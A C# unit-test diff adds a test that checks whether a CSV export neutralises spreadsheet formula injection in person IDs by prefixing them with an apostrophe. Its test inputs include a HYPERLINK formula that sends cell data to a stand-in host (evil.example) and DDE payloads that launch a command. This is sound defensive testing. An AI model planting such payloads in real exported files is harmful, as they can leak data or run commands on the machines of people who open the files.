@@ -137,4 +137,35 @@ public sealed class PersonCsvTests
             File.Delete(path);
         }
     }
+
+    [Theory]
+    [InlineData("=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")")]
+    [InlineData("+cmd|' /C calc'!A0")]
+    [InlineData("-2+3")]
+    [InlineData("@SUM(1+1)*cmd|' /C calc'!A0")]
+    [InlineData("\t=1+1")]
+    [InlineData("\r=1+1")]
+    public void Ids_that_a_spreadsheet_would_run_as_a_formula_are_written_as_text(string id)
+    {
+        var people = new List<PersonRecord> { new(id), new("plain-7") };
+        var path = Path.GetTempFileName();
+        try
+        {
+            PersonCsv.WriteClusters(path, people, [id, "plain-7"]);
+            PersonCsv.WriteReview(path + ".review", [new ScoredPair(id, "plain-7", 1.5, 0.5)]);
+            var (read, problems) = Read(File.ReadAllText(path).Replace("id,cluster", "id,given_name", StringComparison.Ordinal));
+            Assert.Empty(problems);
+            Assert.Equal(["'" + id, "plain-7"], read.Select(p => p.Id));
+            Assert.Equal("'" + id, read[0].GivenName);
+            var review = File.ReadAllText(path + ".review");
+            review = review[(review.IndexOf('\n', StringComparison.Ordinal) + 1)..]; // a quoted cell may hold a carriage return
+            Assert.StartsWith(review.StartsWith('"') ? "\"'" : "'", review, StringComparison.Ordinal);
+            Assert.Contains(",plain-7,", review, StringComparison.Ordinal);
+        }
+        finally
+        {
+            File.Delete(path);
+            File.Delete(path + ".review");
+        }
+    }
 }
